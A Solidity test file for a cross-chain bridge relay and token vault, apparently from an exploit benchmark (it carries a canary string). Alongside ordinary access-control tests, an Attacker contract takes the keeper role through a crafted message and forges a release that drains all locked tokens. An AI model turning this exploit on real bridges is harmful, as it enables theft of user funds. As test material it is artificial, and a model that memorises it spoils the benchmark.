// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.6.12;
pragma experimental ABIEncoderV2;

import "./BridgeRelay.sol";
import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";

// assay-canary-6867f75b-5777-47c3-804a-514141be8b32

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() public ERC20("USD", "USD") {
        _mint(msg.sender, 612_000_000e18);
    }
}

/// Calls back in the middle of a payment.
contract HookToken is ERC20 {
    address private to_;
    bytes private data_;

    constructor() public ERC20("Hook", "HOOK") {
        _mint(msg.sender, 1_000e18);
    }

    function arm(address to, bytes calldata data) external {
        to_ = to;
        data_ = data;
    }

    function _beforeTokenTransfer(address, address, uint256) internal override {
        address to = to_;
        if (to == address(0)) return;
        to_ = address(0);
        (bool ok, bytes memory out) = to.call(data_);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }
}

/// Takes messages.
contract Inbox is IMessageReceiver {
    uint256 public got;
    bytes32 public last;

    function onMessage(uint16 action, bytes calldata args, bytes calldata sender, uint64 fromChain) external override {
        got++;
        last = keccak256(abi.encode(action, args, sender, fromChain));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint64 internal constant HERE = 1;
    uint64 internal constant THERE = 2;
    uint256 internal constant LOCKED = 611_000_000e18;
    uint256 internal constant FEE = 0.001 ether;
    address internal constant KEEPER = address(0x1EE9);
    address internal constant GUARDIAN = address(0x6A4D);
    address internal constant USER = address(0x0531);
    bytes internal constant FAR_VAULT = hex"aabbccddeeff00112233445566778899aabbccdd";

    Token internal usd;
    BridgeRelay internal relay;
    BridgeState internal state;
    TokenVault internal vault;
    Inbox internal inbox;
    Attacker internal mallory;
    bytes32 internal root;
    bytes32[] internal leaves;

    function setUp() public {
        usd = new Token();
        inbox = new Inbox();
        relay = new BridgeRelay(HERE, KEEPER, GUARDIAN);
        state = relay.state();
        relay.addChain(THERE, uint128(FEE));
        vault = new TokenVault(state);
        vault.addAsset(usd, 10e18);
        vault.setCounterpart(THERE, FAR_VAULT);
        usd.transfer(USER, LOCKED + 1_000e18);
        vm.deal(USER, 1 ether);
        vm.startPrank(USER);
        usd.approve(address(vault), LOCKED + 1_000e18);
        vault.lock{value: FEE}(0, THERE, USER, LOCKED);
        vm.stopPrank();

        // two messages were sent on the other chain: one by its vault, and one by the attacker, who only paid the fee there.
        // The keeper posts what was sent.
        mallory = new Attacker(relay, vault, usd, THERE);
        leaves.push(relay.hashOf(homeward()));
        leaves.push(relay.hashOf(mallory.letter()));
        root = pair(leaves[0], leaves[1]);
        vm.prank(KEEPER);
        relay.post(THERE, root);
        mallory.learn(root, leaves[0]);
    }

    function pair(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return a <= b ? keccak256(abi.encodePacked(a, b)) : keccak256(abi.encodePacked(b, a));
    }

    function proofOf(bytes32 sibling) private pure returns (bytes32[] memory p) {
        p = new bytes32[](1);
        p[0] = sibling;
    }

    function message(uint64 nonce, bytes memory sender, address to, bytes memory args)
        private
        view
        returns (BridgeRelay.Message memory)
    {
        return BridgeRelay.Message(THERE, nonce, sender, to, vault.RELEASE(), args);
    }

    function homeward() private view returns (BridgeRelay.Message memory) {
        return message(7, FAR_VAULT, address(vault), abi.encode(uint256(0), USER, uint256(5000e18)));
    }

    /// Posts a batch of one message.
    function posted(BridgeRelay.Message memory m) private returns (bytes32 hash) {
        hash = relay.hashOf(m);
        vm.prank(KEEPER);
        relay.post(THERE, hash);
    }

    function test_Regular() public {
        require(relay.isOpen(homeward(), root), "open");
        relay.deliver(homeward(), root, proofOf(leaves[1]));
        require(usd.balanceOf(USER) == 6000e18 && usd.balanceOf(address(vault)) == LOCKED - 5000e18, "released");
        (, uint32 deliveries, address by) = relay.batchInfo(THERE, root);
        require(deliveries == 1 && by == KEEPER && !relay.isOpen(homeward(), root), "closed");

        BridgeRelay.Message[] memory ms = new BridgeRelay.Message[](2);
        ms[0] = message(9, hex"1234", address(inbox), "one");
        ms[1] = message(10, hex"1234", address(inbox), "two");
        bytes32[][] memory proofs = new bytes32[][](2);
        proofs[0] = proofOf(relay.hashOf(ms[1]));
        proofs[1] = proofOf(relay.hashOf(ms[0]));
        bytes32 other = pair(proofs[0][0], proofs[1][0]);
        vm.prank(KEEPER);
        relay.post(THERE, other);
        relay.deliverMany(ms, other, proofs);
        require(inbox.got() == 2, "delivered");
        require(inbox.last() == keccak256(abi.encode(uint16(1), bytes("two"), hex"1234", THERE)), "as it was sent");

        vm.startPrank(USER);
        vault.lock{value: FEE}(0, THERE, USER, 100e18);
        require(relay.send{value: FEE}(THERE, hex"55", 3, "hello") == 3 && state.sentCount() == 3, "sent");
        vm.stopPrank();
        (, uint256 locked, , ) = vault.assetInfo(0);
        require(locked == LOCKED - 4900e18 && relay.sendFee(THERE) == FEE, "locked");
        settings();
    }

    function settings() private {
        relay.setChain(THERE, 0, false);
        relay.setChain(THERE, 5, true);
        relay.addChain(3, 0);
        require(relay.chainLength() == 2, "chains");
        relay.collectFees(address(0xFEE));
        require(address(0xFEE).balance == 3 * FEE, "fees");
        relay.pause();
        relay.unpause();
        relay.setGuardian(USER);
        vm.prank(USER);
        relay.pause();
        relay.unpause();
        vault.setAsset(0, 1, false);
        vault.addAsset(IERC20(address(0x70)), 1);
        require(vault.assetLength() == 2, "assets");

        vm.startPrank(KEEPER);
        relay.revoke(THERE, root);
        relay.setKeeper(address(this));
        vm.stopPrank();
        require(relay.keeper() == address(this) && state.termCount() == 2, "passed on");
        BridgeRelay next = new BridgeRelay(HERE, KEEPER, GUARDIAN);
        relay.setRelay(address(next));
        require(state.relay() == address(next), "made way");
        vm.startPrank(address(next));
        require(state.nextNonce() == 4, "goes on");
        state.markDelivered("x");
        vm.stopPrank();
        relay.transferOwnership(USER);
        vault.transferOwnership(USER);
        vm.startPrank(USER);
        relay.renounceOwnership();
        vault.renounceOwnership();
        vm.stopPrank();
        require(relay.owner() == address(0) && vault.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    bytes internal constant OWNER = "Ownable: caller is not the owner";

    function test_RefusesStrangers() public {
        refuses(USER, OWNER);
        relay.addChain(3, 0);
        refuses(USER, OWNER);
        relay.setChain(THERE, 0, false);
        refuses(USER, OWNER);
        relay.setGuardian(USER);
        refuses(USER, OWNER);
        relay.collectFees(address(0x0531));
        refuses(GUARDIAN, OWNER);
        relay.unpause();
        refuses(USER, "pause: guardian only");
        relay.pause();
        refuses(USER, OWNER);
        relay.transferOwnership(USER);
        refuses(USER, OWNER);
        relay.renounceOwnership();
        refuses(USER, "relay: keeper only");
        relay.post(THERE, "x");
        refuses(USER, "relay: keeper only");
        relay.revoke(THERE, root);
        refuses(USER, "relay: keeper only");
        relay.setKeeper(USER);
        refuses(USER, "relay: keeper only");
        relay.setRelay(USER);
    }

    function test_RefusesStrangersToVaultAndState() public {
        refuses(USER, OWNER);
        vault.addAsset(usd, 1);
        refuses(USER, OWNER);
        vault.setAsset(0, 1, true);
        refuses(USER, OWNER);
        vault.setCounterpart(3, hex"01");
        refuses(USER, OWNER);
        vault.transferOwnership(USER);
        refuses(USER, OWNER);
        vault.renounceOwnership();
        refuses(USER, "vault: relay only");
        vault.onMessage(1, abi.encode(0, USER, 1), FAR_VAULT, THERE);
        refuses(KEEPER, "state: relay only");
        state.nextNonce();
        refuses(KEEPER, "state: relay only");
        state.markDelivered("x");
        refuses(KEEPER, "state: relay only");
        state.onMessage(1, abi.encode(KEEPER), "", HERE);
        refuses(KEEPER, "state: zero keeper");
        relay.setKeeper(address(0));
        refuses(KEEPER, "state: zero relay");
        relay.setRelay(address(0));
        refuses(address(relay), "state: bad action");
        state.onMessage(3, abi.encode(KEEPER), "", HERE);
    }

    function test_RefusesChains() public {
        vm.expectRevert("addChain: bad chain");
        relay.addChain(0, 0);
        vm.expectRevert("addChain: bad chain");
        relay.addChain(HERE, 0);
        vm.expectRevert("addChain: added before");
        relay.addChain(THERE, 0);
        vm.expectRevert("addChain: fee too high");
        relay.addChain(3, 0.1 ether + 1);
        vm.expectRevert("setChain: fee too high");
        relay.setChain(THERE, 0.1 ether + 1, true);
        vm.expectRevert("relay: no such chain");
        relay.setChain(3, 0, true);
        for (uint64 id = 3; id < 52; ++id) relay.addChain(id, 0);
        vm.expectRevert("addChain: too many chains");
        relay.addChain(52, 0);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("relay: zero guardian");
        relay.setGuardian(address(0));
        vm.expectRevert("relay: zero guardian");
        new BridgeRelay(HERE, KEEPER, address(0));
        vm.expectRevert("state: zero keeper");
        new BridgeRelay(HERE, address(0), GUARDIAN);
        vm.expectRevert("constructor: zero chain");
        new BridgeRelay(0, KEEPER, GUARDIAN);
        vm.expectRevert("collectFees: zero address");
        relay.collectFees(address(0));
        vm.expectRevert("Address: unable to send value, recipient may have reverted");
        relay.collectFees(payable(address(vault)));
        vm.expectRevert("addAsset: listed before");
        vault.addAsset(usd, 1);
        vm.expectRevert("addAsset: zero amount");
        vault.addAsset(IERC20(USER), 0);
        vm.expectRevert("setAsset: zero amount");
        vault.setAsset(0, 0, true);
        vm.expectRevert("setAsset: no such asset");
        vault.setAsset(1, 1, true);
        vm.expectRevert("setCounterpart: set before");
        vault.setCounterpart(THERE, hex"01");
        vm.expectRevert("setCounterpart: set before");
        vault.setCounterpart(3, "");
    }

    function test_RefusesBatches() public {
        vm.startPrank(KEEPER);
        vm.expectRevert("post: zero root");
        relay.post(THERE, 0);
        vm.expectRevert("post: posted before");
        relay.post(THERE, root);
        vm.expectRevert("relay: no such chain");
        relay.post(3, "x");
        vm.expectRevert("revoke: not posted");
        relay.revoke(THERE, "x");
        vm.stopPrank();
        relay.setChain(THERE, 0, false);
        refuses(KEEPER, "post: chain not active");
        relay.post(THERE, "x");
        vm.expectRevert("send: chain not active");
        relay.send(THERE, hex"01", 1, "");
    }

    function test_RefusesInAPause() public {
        vm.prank(GUARDIAN);
        relay.pause();
        vm.expectRevert("Pausable: paused");
        relay.pause();
        refuses(KEEPER, "Pausable: paused");
        relay.post(THERE, "x");
        refuses(USER, "Pausable: paused");
        relay.send{value: FEE}(THERE, hex"01", 1, "");
        BridgeRelay.Message memory m = homeward();
        vm.expectRevert("Pausable: paused");
        relay.deliver(m, root, proofOf(leaves[1]));
        relay.unpause();
        vm.expectRevert("Pausable: not paused");
        relay.unpause();
    }

    function test_RefusesToSend() public {
        vm.startPrank(USER);
        vm.expectRevert("relay: no such chain");
        relay.send{value: FEE}(HERE, hex"01", 1, "");
        vm.expectRevert("send: bad fee");
        relay.send{value: FEE - 1}(THERE, hex"01", 1, "");
        vm.expectRevert("send: bad fee");
        relay.send{value: FEE + 1}(THERE, hex"01", 1, "");
        vm.expectRevert("send: bad message");
        relay.send{value: FEE}(THERE, "", 1, "");
        vm.expectRevert("send: bad message");
        relay.send{value: FEE}(THERE, hex"01", 1, new bytes(4097));
        vm.expectRevert("send: bad fee");
        vault.lock(0, THERE, USER, 10e18);
        vm.expectRevert("lock: no such asset");
        vault.lock{value: FEE}(1, THERE, USER, 10e18);
        vm.expectRevert("lock: no such chain");
        vault.lock{value: FEE}(0, 3, USER, 10e18);
        vm.expectRevert("lock: zero address");
        vault.lock{value: FEE}(0, THERE, address(0), 10e18);
        vm.expectRevert("lock: too little");
        vault.lock{value: FEE}(0, THERE, USER, 10e18 - 1);
        vm.stopPrank();
        vault.setAsset(0, 10e18, false);
        refuses(USER, "lock: no such asset");
        vault.lock{value: FEE}(0, THERE, USER, 10e18);
    }

    function test_RefusesDeliveries() public {
        BridgeRelay.Message memory m = homeward();
        vm.expectRevert("deliver: not in the batch");
        relay.deliver(m, root, proofOf(leaves[0]));
        relay.deliver(m, root, proofOf(leaves[1]));
        vm.expectRevert("state: delivered before");
        relay.deliver(m, root, proofOf(leaves[1]));
        m.nonce = 8;
        vm.expectRevert("deliver: not in the batch");
        relay.deliver(m, root, proofOf(leaves[1]));
        bytes32 hash = relay.hashOf(m);
        vm.expectRevert("deliver: not posted");
        relay.deliver(m, hash, new bytes32[](0));
        m.recipient = address(relay);
        hash = posted(m);
        vm.expectRevert("deliver: bad recipient");
        relay.deliver(m, hash, new bytes32[](0));
        BridgeRelay.Message[] memory ms = new BridgeRelay.Message[](1);
        ms[0] = m;
        vm.expectRevert("deliverMany: bad lengths");
        relay.deliverMany(ms, root, new bytes32[][](2));
        ms = new BridgeRelay.Message[](21);
        vm.expectRevert("deliverMany: too many");
        relay.deliverMany(ms, root, new bytes32[][](21));
    }

    /// The vault looks at action, sender and amount.
    function test_RefusesReleases() public {
        BridgeRelay.Message memory m = homeward();
        m.sender = hex"1234";
        bytes32 hash = posted(m);
        vm.expectRevert("vault: bad sender");
        relay.deliver(m, hash, new bytes32[](0));
        bytes memory args = abi.encode(uint256(0), USER, uint256(1));
        refuses(address(relay), "vault: bad action");
        vault.onMessage(2, args, FAR_VAULT, THERE);
        refuses(address(relay), "vault: bad sender");
        vault.onMessage(1, args, "", 3);
        refuses(address(relay), "vault: no such asset");
        vault.onMessage(1, abi.encode(uint256(1), USER, uint256(1)), FAR_VAULT, THERE);
        refuses(address(relay), "vault: not locked");
        vault.onMessage(1, abi.encode(uint256(0), USER, LOCKED + 1), FAR_VAULT, THERE);
    }

    function test_RefusesCallsWithinCalls() public {
        HookToken hook = new HookToken();
        vault.addAsset(hook, 1);
        hook.approve(address(vault), 1_000e18);
        relay.setChain(THERE, 0, true);
        hook.arm(address(vault), abi.encodeWithSelector(vault.lock.selector, 1, THERE, USER, 5));
        vm.expectRevert("ReentrancyGuard: reentrant call");
        vault.lock(1, THERE, USER, 5);
        hook.arm(address(0), "");
        vault.lock(1, THERE, USER, 5);
        BridgeRelay.Message memory m = message(11, FAR_VAULT, address(vault), abi.encode(uint256(1), USER, uint256(1)));
        bytes32 hash = posted(m);
        hook.arm(address(relay), abi.encodeWithSelector(relay.deliver.selector, homeward(), root, proofOf(leaves[1])));
        vm.expectRevert("ReentrancyGuard: reentrant call");
        relay.deliver(m, hash, new bytes32[](0));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(relay.keeper() == address(mallory), "not the keeper");
        require(usd.balanceOf(address(mallory)) == LOCKED, "nothing gained");
    }

    function target() public view returns (address) {
        return address(relay);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Has a letter to the state delivered, and as the keeper posts what the vault on the other chain never sent.
contract Attacker {
    BridgeRelay internal relay;
    TokenVault internal vault;
    Token internal usd;
    uint64 internal far;
    bytes32 internal root;
    bytes32 internal sibling;

    constructor(BridgeRelay relay_, TokenVault vault_, Token usd_, uint64 far_) public {
        relay = relay_;
        vault = vault_;
        usd = usd_;
        far = far_;
    }

    function letter() public view returns (BridgeRelay.Message memory) {
        BridgeState state = relay.state();
        return
            BridgeRelay.Message({
                fromChain: far,
                nonce: 8,
                sender: abi.encodePacked(address(this)),
                recipient: address(state),
                action: state.SET_KEEPER(),
                args: abi.encode(address(this))
            });
    }

    /// The hashes of a batch are public.
    function learn(bytes32 root_, bytes32 sibling_) external {
        root = root_;
        sibling = sibling_;
    }

    function run() external {
        bytes32[] memory proof = new bytes32[](1);
        proof[0] = sibling;
        relay.deliver(letter(), root, proof);
        BridgeRelay.Message memory m = BridgeRelay.Message({
            fromChain: far,
            nonce: 9,
            sender: vault.counterpart(far),
            recipient: address(vault),
            action: vault.RELEASE(),
            args: abi.encode(uint256(0), address(this), usd.balanceOf(address(vault)))
        });
        bytes32 hash = relay.hashOf(m);
        relay.post(far, hash);
        relay.deliver(m, hash, new bytes32[](0));
    }
}
